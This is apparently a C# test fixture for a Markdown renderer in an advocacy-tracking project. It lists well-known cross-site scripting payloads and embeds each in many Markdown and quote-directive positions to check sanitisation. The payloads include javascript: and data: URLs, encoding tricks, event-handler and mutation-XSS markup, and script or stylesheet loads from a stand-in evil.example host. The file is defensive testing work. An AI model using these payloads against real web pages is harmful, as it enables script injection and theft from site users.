using AdvocacyTracker.Text;

namespace AdvocacyTracker.Tests.Text;

/// <summary>Attacks that are known from elsewhere, put in every place where somebody's words reach a page.</summary>
internal static class HostileDocuments
{
    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&#x3A;alert(1)",
        "java\tscript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "\u0001javascript:alert(1)", "&#1;javascript:alert(1)",
        "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "\\javascript:alert(1)", "javascript\\:alert(1)", "j\u0430vascript:alert(1)", "ｊavascript:alert(1)",
        "\u200Bjavascript:alert(1)", "\uFEFFjavascript:alert(1)", "\u202Ejavascript:alert(1)", "javascript://example.org/%0Aalert(1)", "feed:javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>",
        "vbscript:msgbox(1)", "VbScript&colon;x", "file:///etc/passwd", "blob:https://example.org/1", "view-source:javascript:alert(1)", "intent://x#Intent;end",
        "//evil.example/x", "/desk/team", "\\\\evil.example\\x", "https:javascript:alert(1)", "http:/\\evil.example", "https://evil.example\" onmouseover=\"alert(1)",
        "https://evil.example' onmouseover='alert(1)", "https://evil.example/`onmouseover=alert(1)", "https://ex\u00ADample.org", "http://\u2603.example/", "http://xn--a/",
        "http://xn--0000h/", "https://\uD83D\uDE00.example", "http://[::1", "http://a\u3002b/", "https://user:pass@evil.example", "mailto:a@b.c?body=<script>", "https://",
    ];

    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=\"javascript:alert(1)\">x</math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">", "<style>@import'//evil.example/x.css';</style>", "<style><!--</style><script>alert(1)//--></script>",
        "<base href=//evil.example>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<object data=\"data:text/html,x\"></object>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example>", "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>",
        "<textarea></textarea><script>alert(1)</script>", "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<p style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</p>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)", "</mark></p></figure></li></ol><script>alert(1)</script>",
        "{onclick=alert(1)}", "{#x .y onclick=\"alert(1)\"}", "{: onclick=alert(1)}", "x{style=color:red}", "<x onclick=alert(1)>{{addressee}}</x>", "{{<script>alert(1)</script>}}",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "\u003Cscript\u003Ealert(1)\u003C/script\u003E", "＜script＞alert(1)＜/script＞", "<scr\0ipt>alert(1)</scr\0ipt>", "\uD800<script>alert(1)</script>", "\u2028<script>alert(1)</script>",
        "<a href=\"javascript:alert(1)\" id=D-2017-001-1 class=\"demand\">x</a>", "<div id=getElementById name=cookie>", "<portal src=//evil.example>", "<marquee onstart=alert(1)>", "<a is=x-y slot=z>x</a>",
    ];

    private static readonly Func<string, string>[] AddressPlaces =
    [
        address => $"[x]({address})", address => $"[x](<{address}>)", address => $"![x]({address})", address => $"[x]\n\n[x]: {address}", address => $"[x]\n\n[x]: <{address}> 't'", address => $"<{address}>", address => address,
        address => $"[![x]({address})]({address})", address => $"| a |\n|---|\n| [x]({address}) |", address => $"# [x]({address})", address => $"a[^1]\n\n[^1]: [x]({address})", address => $"- > [x]({address})",
        address => $":::quote speaker=\"A\" source=\"{address}\"\nx\n:::", address => $":::quote speaker=\"A\"\n[x]({address})\n:::",
    ];

    private static readonly Func<string, string>[] MarkupPlaces =
    [
        markup => markup, markup => $"x {markup} y", markup => $"[{markup}](https://example.org)", markup => $"[x](https://example.org '{markup}')", markup => $"[x](https://example.org/{markup})", markup => $"![{markup}](https://example.org/a.png \"{markup}\")",
        markup => $"[x]\n\n[x]: https://example.org ({markup})", markup => $"| {markup} | b |\n|:-:|--:|\n| {markup} | c |", markup => $"# {markup}", markup => $"a[^{markup}]\n\n[^{markup}]: {markup}", markup => $"a[^1]\n\n[^1]: {markup}", markup => $"`{markup}`",
        markup => $"``` {markup}\n{markup}\n```", markup => $"    {markup}", markup => $"> - {markup}", markup => $"**{markup}**", markup => $":::quote speaker=\"{markup}\" title=\"{markup}\" verb=\"said\"\nx\n:::", markup => $":::quote speaker=“{markup}” source=\"https://example.org/{markup}\"\nx\n:::",
        markup => $":::quote speaker=\"A\" verb=\"{markup}\"\nx\n:::", markup => $":::quote speaker=\"A\" title=\"B\"\n{markup}\n:::", markup => $":::{markup}", markup => $":::demand {markup}", markup => $"{{{{{markup}}}}}", markup => $"[x](https://example.org){markup}",
    ];

    public static IEnumerable<(string Markdown, RenderContext Context)> All() =>
        Addresses.SelectMany(InAddressPlaces).Concat(Markup.SelectMany(InMarkupPlaces));

    private static IEnumerable<(string Markdown, RenderContext Context)> InAddressPlaces(string address) =>
        AddressPlaces.Select(place => (place(address), SampleText.Context)).Concat(InContext($"[x]({address})"));

    private static IEnumerable<(string Markdown, RenderContext Context)> InMarkupPlaces(string markup) =>
        MarkupPlaces.Select(place => (place(markup), SampleText.Context)).Concat(InContext(markup));

    private static IEnumerable<(string Markdown, RenderContext Context)> InContext(string words)
    {
        yield return ("{{addressee}} [x]({{addressee}})", SampleText.WithField(words));
        yield return (":::quote speaker=\"{{addressee}}\"\n{{addressee}}\n:::", SampleText.WithField(words + "\n" + words));
        yield return (":::demands", SampleText.Filled(SampleText.Demand(words, "text")));
        yield return (":::demands", SampleText.Filled(SampleText.Demand("Title", words)));
        yield return (":::demands", SampleText.Filled(new PrintedDemand(words, 1, "Title", "a[^1]\n\n[^1]: b", words)));
        yield return ($":::demand {words}", SampleText.Filled(new PrintedDemand(words, -1, words, "> " + words, "ar")));
    }
}
